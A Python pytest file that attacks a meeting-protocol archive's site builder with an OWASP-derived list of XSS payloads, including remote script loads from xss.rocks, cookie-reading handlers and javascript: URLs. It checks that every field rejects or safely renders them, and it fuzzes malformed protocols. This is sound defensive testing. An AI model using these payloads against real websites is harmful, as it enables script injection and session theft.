"""Attacks on the archive: script payloads in every field of a protocol and every register, and thousands
of structurally mutated protocols. Each payload is rejected by the checker or built harmlessly; nothing
makes the checker or the parser raise."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import REPO, copy_project, run_build
from helpers import Element, parse
from protokollarkivet.format import Level, load_archive, parse_protocol
from protokollarkivet.index import build_index
from protokollarkivet.render import HeadingPermalink, Renderer, UrlScheme

# From the OWASP XSS filter evasion cheat sheet, and the Markdown ways in. Each would set the canary
# or open a dialog if it ran.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<svg/onload=alert('XSS')>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<details open ontoggle=alert(1)>",
    "<div onclick=alert(1)>x</div>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<!--<img src=x onerror=alert(1)>-->",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "[x]( JaVa&#115;cript:alert(1))",
    "[x]: javascript:alert(1)\n\n[y][x]",
    "<javascript:alert(1)>",
    '"><script>window.__pwned=1</script>',
    "'><img src=x onerror=alert(1)>",
    "\";alert('XSS');//",
    "{{ 7*7 }} {% raw %} ${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "Rum \x22 onmouseover=alert(1) x=\x22",
    "Mindpark \\",
]

# Where a payload can go: (file under protocols/, the text replaced, how the payload replaces it).
# Values go into YAML as JSON strings, which YAML reads as double-quoted scalars.
P2022 = "kommundirektorsgruppen/2022-08-26.md"
Q = json.dumps


def _quoted(template: str) -> Callable[[str], str]:
    return lambda payload: template.format(p=Q(payload, ensure_ascii=False))


def _raw(template: str) -> Callable[[str], str]:
    return lambda payload: template.format(p=payload)


POSITIONS: list[tuple[str, str, str, Callable[[str], str]]] = [
    ("nummer", P2022, "datum: 2022-08-26\n", _quoted("nummer: {p}\ndatum: 2022-08-26\n")),
    ("tid", P2022, 'tid: "13.00–13.45"', _quoted("tid: {p}")),
    ("plats", P2022, "plats: Rusthållargården i Arild", _quoted("plats: {p}")),
    ("status", P2022, "status: justerat", _quoted("status: {p}")),
    ("justering.datum", P2022, "  datum: 2022-08-26", _quoted("  datum: {p}")),
    ("justerare", P2022, "justerare: [Johan Lindberg]", _quoted("justerare: [{p}]")),
    ("mötesledare", P2022, "mötesledare: Johan Lindberg", _quoted("mötesledare: {p}")),
    ("kontakt", P2022, "kontakt: johan.lindberg@familjenhelsingborg.se", _quoted("kontakt: {p}")),
    ("närvarande namn", P2022, "  - Christer Pålsson, Bjuv", _quoted("  - {p}")),
    ("närvarande kommun", P2022, "  - Christer Pålsson, Bjuv", lambda p: "  - " + Q("Christer Pålsson, " + p, ensure_ascii=False)),
    ("frånvarande", P2022, "  - Ardiana Demjaha, Örkelljunga", lambda p: "  - " + Q("Ardiana Demjaha, " + p, ensure_ascii=False)),
    ("gäster", P2022, "  - Pia Radil, Ängelholm, punkt 4", lambda p: "  - " + Q(f"Pia Radil, Ängelholm, {p}", ensure_ascii=False)),
    ("bilagor", P2022, "underskrifter:", lambda p: "bilagor:\n  - " + Q(f"{p}, punkt 4", ensure_ascii=False) + "\nunderskrifter:"),
    ("underskrifter", P2022, "  - Johan Lindberg, sekretariatschef", lambda p: "  - " + Q("Johan Lindberg, " + p, ensure_ascii=False)),
    ("anmärkningar", P2022, "anmärkningar:\n", _quoted("anmärkningar:\n  - {p}\n")),
    ("rättelser", P2022, "anmärkningar:\n", _quoted("rättelser:\n  - datum: 2022-09-01\n    text: {p} med fler ord här\nanmärkningar:\n")),
    ("inledning", P2022, "## 13.00 Mötets öppnande", _raw("{p}\n\n## 13.00 Mötets öppnande")),
    ("punktrubrik", P2022, "## Lägesrapport test- och utvecklingsprojekt", _raw("## {p}")),
    ("punkttext", P2022, "Agendan diskuterades, inga förslag på förändringar gjordes.", _raw("{p}")),
    ("beslut", P2022, "att Johan Lindberg tills vidare", _raw("att {p} Johan Lindberg tills vidare")),
    ("medskick", P2022, "Medskick att ansökningar", _raw("Medskick {p} att ansökningar")),
    ("organ namn", "organ.yml", "namn: Kommundirektörsgruppen", _quoted("namn: {p}")),
    ("organ förkortning", "organ.yml", "förkortning: KDG", _quoted("förkortning: {p}")),
    ("organ beskrivning", "organ.yml", "beskrivning: Kommundirektörerna", lambda p: "beskrivning: " + Q(p + " Kommundirektörerna", ensure_ascii=False)),
    ("organ referensord", "organ.yml", "    - kommundirektörmöte\n", _quoted("    - {p}\n    - kommundirektörmöte\n")),
    ("kommun", "kommuner.yml", "- Bjuv\n", _quoted("- Bjuv\n- {p}\n")),
    ("organisation", "organisationer.yml", "    - sekretariatet\n", _quoted("    - sekretariatet\n    - {p}\n")),
    ("person namn", "personer.yml", "- Pia Radil, Ängelholm", _quoted("- Pia Radil, Ängelholm\n- namn: {p}\n  kommun: Bjuv")),
    ("person titel", "personer.yml", "  titel: sekretariatschef", _quoted("  titel: {p}")),
    ("person alias", "personer.yml", "- Pia Radil, Ängelholm", _quoted("- namn: Pia Radil\n  kommun: Ängelholm\n  alias: [{p}]")),
    ("projekt namn", "projekt.yml", "- namn: Smarta lokaler", _quoted("- namn: {p}\n  status: idé\n- namn: Smarta lokaler")),
    ("projekt alias", "projekt.yml", "  alias: [Fika med Familjen]", _quoted("  alias: [Fika med Familjen, {p}]")),
    ("projekt beskrivning", "projekt.yml", "  beskrivning: Projektplanen presenterades av Ängelholm", lambda p: "  beskrivning: " + Q(p + " Projektplanen presenterades", ensure_ascii=False)),
]  # fmt: skip

_ACTIVE_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "base",
    "meta",
    "link",
    "style",
    "frame",
    "frameset",
    "math",
    "input",
    "button",
    "textarea",
    "select",
    "form",
    "img",
}
_DANGEROUS_SCHEME = re.compile(r"^\s*(javascript|data|vbscript):", re.IGNORECASE)


def _apply(root: Path, position: tuple[str, str, str, Callable[[str], str]], payload: str) -> None:
    _, name, old, new = position
    file = root / name
    text = file.read_text("utf-8")
    assert old in text, (name, old)
    file.write_text(text.replace(old, new(payload), 1), "utf-8")


def active_content(html: str, ours: Callable[[Element], bool] = lambda element: False) -> list[str]:
    """Everything in an HTML fragment that could run script: event handlers, script-capable elements,
    links and sources with a dangerous scheme. `ours` tells the project's own markup (charts, forms)."""
    found = []
    for element in parse(html).iter():
        if element.tag == "#document" or ours(element):
            continue
        if element.tag in _ACTIVE_TAGS or element.tag == "svg":
            found.append(f"<{element.tag}>")
        for name, value in element.attrs.items():
            if name.startswith("on") or (
                name in ("href", "src", "action", "data", "formaction", "xlink:href") and _DANGEROUS_SCHEME.match(value)
            ):
                found.append(f"<{element.tag} {name}={value!r}>")
    return found


def _ours(element: Element) -> bool:
    """The project's own active-looking markup: the attendance chart, the decision filter."""
    chain = [element, *element.ancestors()]
    return any(e.tag == "svg" and "pa-chart" in e.classes for e in chain) or any(
        e.tag == "form" and e.attrs.get("id") == "pa-filter" for e in chain
    )


def _render_everything(root: Path, strings) -> list[tuple[str, str]]:
    """Every page's content and every data file of the archive at `root`, rendered in memory."""
    index = build_index(load_archive(root, strings, drafts=True))
    renderer = Renderer(
        index, strings, UrlScheme.create("https://example.org/", True), permalink=HeadingPermalink.from_toc_options({"permalink": True})
    )
    site = renderer.render_site()
    rendered = [(page.src_uri, page.render().html) for page in site.pages]
    for data in site.all_data():
        content = data.content
        if data.src_uri.endswith(".json"):
            json.loads(content)  # still JSON, whatever the text holds
        rendered.append((data.src_uri, content))
    return rendered


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("pristine") / "protocols"
    shutil.copytree(REPO / "protocols", root)
    return root


def test_the_corpus_is_large_enough_and_every_position_exists(pristine: Path, tmp_path: Path) -> None:
    assert len(PAYLOADS) >= 30 and len({name for name, *_ in POSITIONS}) == len(POSITIONS)
    for position in POSITIONS:
        root = tmp_path / position[0].replace(" ", "-") / "protocols"
        shutil.copytree(pristine, root)
        _apply(root, position, "x")


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_each_payload_in_each_field_is_rejected_or_rendered_harmlessly(pristine: Path, tmp_path: Path, strings, payload: str) -> None:
    accepted = []
    for position in POSITIONS:
        root = tmp_path / "single" / "protocols"
        shutil.rmtree(root.parent, ignore_errors=True)
        shutil.copytree(pristine, root)
        _apply(root, position, payload)
        findings = load_archive(root, strings, drafts=True).findings
        if not any(f.level is Level.ERROR for f in findings):
            accepted.append(position)
    # Rendered together where they can be: a name as a person and as an alias of another is a duplicate,
    # so positions that clash go into another archive.
    groups: list[list[tuple]] = []
    for position in accepted:
        for group in [*groups, []]:
            root = tmp_path / "trial" / "protocols"
            shutil.rmtree(root.parent, ignore_errors=True)
            shutil.copytree(pristine, root)
            for member in [*group, position]:
                _apply(root, member, payload)
            if not any(f.level is Level.ERROR for f in load_archive(root, strings, drafts=True).findings):
                if not group:
                    groups.append(group)
                group.append(position)
                break
        else:
            pytest.fail(f"accepted alone, rejected in a fresh archive: {position[0]}")
    for number, group in enumerate(groups):
        root = tmp_path / f"group-{number}" / "protocols"
        shutil.copytree(pristine, root)
        for position in group:
            _apply(root, position, payload)
        for src, content in _render_everything(root, strings):
            if src.endswith(".md"):
                assert active_content(content, _ours) == [], (payload, src)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory, strings) -> Path:
    """A strict build of the archive with an accepted payload in every position that accepts one."""
    project = copy_project(tmp_path_factory.mktemp("hostile"))
    root = project / "protocols"
    used = 0
    for position in POSITIONS:
        for payload in PAYLOADS[used % len(PAYLOADS) :] + PAYLOADS[: used % len(PAYLOADS)]:
            trial = tmp_path_factory.mktemp("trial") / "protocols"
            shutil.copytree(root, trial)
            _apply(trial, position, payload)
            if not any(f.level is Level.ERROR for f in load_archive(trial, strings).findings):
                _apply(root, position, payload)
                used += 1
                break
    assert used >= 15, used  # enough hostile-but-valid text to attack the pages with
    build = run_build(project)
    assert build.result.returncode == 0, build.output
    return build.site


def test_the_hostile_build_keeps_the_pages_markup_intact(hostile_site: Path, site) -> None:
    for page in sorted(hostile_site.rglob("*.html")):
        clean_page = site.site / page.relative_to(hostile_site)
        html = page.read_text("utf-8")
        head = parse(html).find("head")
        assert len(head.find_all("meta", name="description")) <= 1
        if clean_page.exists():
            clean = clean_page.read_text("utf-8")
            assert html.count("<script") == clean.count("<script"), page
            assert len(re.findall(r"\son\w+=", html)) == len(re.findall(r"\son\w+=", clean)), page


def test_no_script_runs_on_any_page_of_the_hostile_build(hostile_site: Path, page, serve) -> None:
    base = serve(hostile_site)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    # Every page type (hostile text from the registers is on every page: in the navigation, at least)
    pages, types = [], set()
    for file in sorted(hostile_site.rglob("index.html")):
        parts = file.parent.relative_to(hostile_site).parts
        kind = (parts[0] if parts else "", len(parts))
        if kind not in types:
            types.add(kind)
            pages.append(file)
    assert len(pages) >= 12
    for file in [*pages, hostile_site / "404.html"]:
        url = base + file.parent.relative_to(hostile_site).as_posix() + "/" if file.name == "index.html" else base + "finns-inte/"
        page.goto(url.replace("/./", "/"))
        page.evaluate(
            "() => document.querySelectorAll('article *').forEach(e => ['mouseover', 'focus', 'toggle', 'error', 'load']"
            ".forEach(t => e.dispatchEvent(new Event(t))))"
        )
        assert page.evaluate("() => window.__pwned") is None, url
    # Pagefind's answers (titles, excerpts, sections) drawn from the hostile text, in the search box
    answered = 0
    for query in ("onerror", "alert", "script", "javascript"):
        page.goto(base)
        page.locator("input.md-search__input").press_sequentially(query, delay=10)
        page.wait_for_function("() => /\\d|Inga/.test(document.querySelector('.md-search-result__meta').innerText)")
        page.evaluate(
            "() => document.querySelectorAll('.md-search-result *').forEach(e => ['mouseover', 'focus', 'error', 'load']"
            ".forEach(t => e.dispatchEvent(new Event(t))))"
        )
        assert page.evaluate("() => window.__pwned") is None, query
        answered += page.locator(".md-search-result__item").count()
    assert answered > 0  # the hostile text was found and drawn
    assert dialogs == []


# --- structurally mutated protocols -------------------------------------------------------------------

_SEED = (REPO / "protocols" / P2022).read_text("utf-8")
_KEYS = ["organ", "nummer", "datum", "tid", "plats", "status", "justering", "mötesledare", "sekreterare", "kontakt",
         "närvarande", "frånvarande", "gäster", "bilagor", "underskrifter", "anmärkningar", "rättelser"]  # fmt: skip
_VALUES = st.one_of(
    st.none(), st.booleans(), st.integers(min_value=-(10**30), max_value=10**30), st.floats(allow_nan=True),
    st.text(max_size=20), st.dates(), st.just("9" * 5000), st.just("2019-02-30"), st.just("\x00"), st.just("\ufeff"),
    st.lists(st.text(max_size=10), max_size=3), st.dictionaries(st.text(max_size=6), st.text(max_size=6), max_size=3),
)  # fmt: skip


@st.composite
def mutated_protocols(draw: st.DrawFn) -> bytes:
    text = _SEED
    for _ in range(draw(st.integers(0, 4))):
        key = draw(st.sampled_from(_KEYS))
        lines = text.split("\n")
        index = next((n for n, line in enumerate(lines) if line.startswith(key + ":")), None)
        action = draw(st.sampled_from(["delete", "swap", "duplicate", "huge"]))
        if index is None:
            continue
        if action == "delete":
            del lines[index]
        elif action == "swap":
            value = draw(_VALUES)
            lines[index] = f"{key}: {json.dumps(value, default=str, ensure_ascii=False)}"
        elif action == "duplicate":
            lines.insert(index, lines[index])
        else:
            lines[index] = f"{key}: {'8' * draw(st.integers(4000, 6000))}"
        text = "\n".join(lines)
    body_change = draw(st.sampled_from(["none", "renumber", "huge-item", "control", "delete-beslut", "html"]))
    if body_change == "renumber":
        text = text.replace("## Lägesrapport", f"## {draw(st.integers(0, 10**6))}. Lägesrapport")
    elif body_change == "huge-item":
        text = text.replace("## Lägesrapport", "## " + "7" * 5000 + ". Lägesrapport")
    elif body_change == "control":
        text = text.replace("Agendan", "Agendan" + draw(st.text(alphabet=st.characters(max_codepoint=31), min_size=1, max_size=5)))
    elif body_change == "delete-beslut":
        text = text.replace("Beslut\n", "", draw(st.integers(1, 3)))
    elif body_change == "html":
        text = text.replace("Agendan", draw(st.sampled_from(PAYLOADS)))
    raw = text.encode("utf-8", "surrogatepass")
    encoding = draw(st.sampled_from(["plain", "bom", "crlf", "cr", "latin-1"]))
    if encoding == "bom":
        raw = b"\xef\xbb\xbf" + raw
    elif encoding == "crlf":
        raw = raw.replace(b"\n", b"\r\n")
    elif encoding == "cr":
        raw = raw.replace(b"\n", b"\r")
    elif encoding == "latin-1":
        raw = text.encode("latin-1", "replace")
    cut = draw(st.integers(0, 3))
    return raw[: len(raw) - cut * draw(st.integers(0, 40))] if cut else raw


EXAMPLES = 2000  # benchmarks/fuzz.py runs as many as anyone wants


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(raw=mutated_protocols())
def test_mutated_protocols_give_findings_never_exceptions(registers, strings, raw: bytes) -> None:
    protocol, findings = parse_protocol("protocols/" + P2022, raw, registers, strings)
    assert protocol is not None or any(f.level is Level.ERROR for f in findings)
    for finding in findings:
        assert finding.line >= 1 and finding.path.endswith(".md") and finding.message


def test_a_random_front_matter_never_crashes_the_command(tmp_path: Path) -> None:
    from protokollarkivet.commands.cli import main

    archive = tmp_path / "protocols"
    shutil.copytree(REPO / "protocols", archive)
    (archive / "kommundirektorsgruppen" / "2024-01-01.md").write_bytes(
        b"---\n" + b"justering: {datum: 2019-02-30, justerare: 7}\n" + b"---\n\n## 1. x\n"
    )
    assert main(["check", "--archive", str(archive)]) == 1
